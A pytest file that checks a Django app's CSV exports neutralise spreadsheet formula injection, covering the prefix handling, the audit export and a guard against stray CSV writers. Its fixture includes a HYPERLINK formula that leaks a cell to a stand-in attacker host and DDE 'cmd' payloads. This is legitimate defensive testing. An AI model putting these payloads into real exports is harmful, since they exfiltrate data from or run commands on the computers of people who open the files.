"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): cells
starting with =, +, -, @, tab or CR are neutralised by one helper
(compliance/spreadsheet.py) that every CSV writer uses."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django_tenants.utils import schema_context

from compliance.spreadsheet import FORMULA_PREFIXES, csv_lines, safe_cell
from tests.support.accounts import signed_in_client

ROOT = Path(__file__).resolve().parents[3]
HOSTILE = {
    "user_email": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "model": "+cmd|' /C calc'!A0",
    "endpoint": "@SUM(1+1)*cmd|' /C calc'!A0",
    "error_kind": "-2+3+cmd|' /C calc'!A0",
    "status": "error",
}


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_neutralised(prefix):
    assert safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"


@pytest.mark.parametrize("value", ["admin@example.com", "gpt-4o-mini", "", "a=b", " =1", 42,
                                   -7, 1.5, None])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_the_header_and_every_row_go_through_the_helper():
    text = "".join(csv_lines(header=["=h"], rows=[["=a", "-b", 3], ["\tc", "\rd", "ok"]]))

    assert list(csv.reader(io.StringIO(text))) == [
        ["'=h"], ["'=a", "'-b", "3"], ["'\tc", "'\rd", "ok"]]


def test_the_audit_export_neutralises_hostile_emails_and_model_ids(make_client, host_client):
    from compliance import services

    result = make_client("csv")
    with schema_context(result.client.schema_name):
        services.append_audit(kind="chat", user_id=7, prompt_tokens=12, **HOSTILE)
    browser = signed_in_client(result)

    export = browser.get("/settings/audit/?format=csv")

    assert export.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    for field, value in HOSTILE.items():
        if field != "status":
            assert row[field] == "'" + value, field
    assert row["prompt_tokens"] == "12" and row["seq"] == "1"  # numbers stay numbers


def test_no_csv_writer_outside_the_helper():
    writer = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [str(path.relative_to(ROOT))
                 for folder in ("chat", "compliance", "tenants", "config", "bench")
                 for path in (ROOT / folder).rglob("*.py")
                 if writer.search(path.read_text())]
    assert offenders == ["compliance/spreadsheet.py"]
